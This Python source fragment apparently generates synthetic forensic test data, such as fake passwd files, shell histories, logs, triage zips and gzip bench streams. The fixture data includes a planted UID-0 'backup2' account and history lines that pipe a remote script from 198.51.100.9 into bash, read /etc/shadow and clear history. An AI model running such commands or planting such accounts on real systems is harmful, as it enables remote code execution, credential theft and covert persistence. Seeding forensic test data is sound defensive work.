        users = ["root:x:0:0:root:/root:/bin/bash", "daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin",
                 "www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin", "sshd:x:110:65534::/run/sshd:/usr/sbin/nologin",
                 "alice:x:1000:1000:Alice,,,:/home/alice:/bin/bash", "backup2:x:0:0::/tmp/.b:/bin/sh"]
        return ("\n".join(users * 5) + "\n").encode()
    if r.kind == "etchosts":
        return f"127.0.0.1 localhost\n127.0.1.1 {host}\n::1 localhost ip6-localhost\n".encode()
    if r.kind == "osrelease":
        return b'PRETTY_NAME="Ubuntu 22.04.4 LTS"\nNAME="Ubuntu"\nVERSION_ID="22.04"\nID=ubuntu\n'
    if r.kind == "history":
        cmds = ["ls -la", "sudo su -", "curl -s http://198.51.100.9/x.sh | bash", "history -c", "cat /etc/shadow",
                f"echo -e '{ESC}[31mred{ESC}[0m'", "vim /etc/crontab", "systemctl restart nginx"]
        return ("\n".join(rng.choice(cmds) for _ in range(r.size // 16)) + "\n").encode()
    if r.kind == "triage":
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
            for n in ["EventLogs/Security.evtx.txt", "Prefetch/list.txt", "Network/netstat.txt", "Users/logons.csv", "manifest.json"]:
                zi = zipfile.ZipInfo(n, date_time=(2024, 6, 2, 8, 0, 0))
                z.writestr(zi, (f"{n} from {host}\n" + "".join(f"{rng.getrandbits(64):016x}\n" for _ in range(3000))).encode(),
                           compress_type=zipfile.ZIP_DEFLATED)
        return buf.getvalue()
    if r.kind in ("text", "log", "generic"):
        lines = []
        size = 0
        i = 0
        while size < r.size:
            line = f"2024-06-02T{(i // 3600) % 24:02d}:{(i // 60) % 60:02d}:{i % 60:02d}Z {host} {r.path.rsplit(chr(92), 1)[-1]} line {i} value={rng.getrandbits(40):010x}\n"
            lines.append(line)
            size += len(line)
            i += 1
        return "".join(lines).encode()[: r.size]
    header = {"pe": b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00", "evtx": b"ElfFile\x00",
              "dmp": b"MDMP\x93\xa7\x00\x00", "bin": b"regf"}.get(r.kind, b"")
    body = rng.randbytes(min(r.size, 65536))
    # repeat one random block: cheap, deterministic, and gzip still has work to do
    reps = (r.size - len(header)) // len(body) + 1 if body else 0
    return (header + body * reps)[: r.size]


BENCH_BLOCK = 1024 * 1024
_BENCH_CACHE: dict[str, bytes] = {}


def _bench_member(machine_id: str) -> bytes:
    member = _BENCH_CACHE.get(machine_id)
    if member is None:
        raw = random.Random(hashlib.sha256(f"bench|{machine_id}".encode()).digest()).randbytes(BENCH_BLOCK)
        member = gzip.compress(raw, compresslevel=1, mtime=0)
        if len(_BENCH_CACHE) > 16:
            _BENCH_CACHE.clear()
        _BENCH_CACHE[machine_id] = member
    return member


def bench_stream(r: FileRecipe) -> tuple[int, Callable[[], Iterator[bytes]]]:
    """(compressed length, chunk iterator factory) for a bench file: concatenated gzip members, each the
    same 1 MiB of random data (the last one shorter), never all in memory."""
    full, rest = divmod(r.size, BENCH_BLOCK)
    member = _bench_member(r.machine_id)
    tail = b""
    if rest:
        raw = random.Random(hashlib.sha256(f"bench|{r.machine_id}".encode()).digest()).randbytes(BENCH_BLOCK)[:rest]
        tail = gzip.compress(raw, compresslevel=1, mtime=0)
    if r.size == 0:
        tail = gzip.compress(b"", mtime=0)
    length = full * len(member) + len(tail)

    def chunks() -> Iterator[bytes]:
        for _ in range(full):
            yield member
        if tail:
            yield tail
    return length, chunks


def gzip_stream(data: bytes) -> bytes:
    return gzip.compress(data, compresslevel=6, mtime=0)
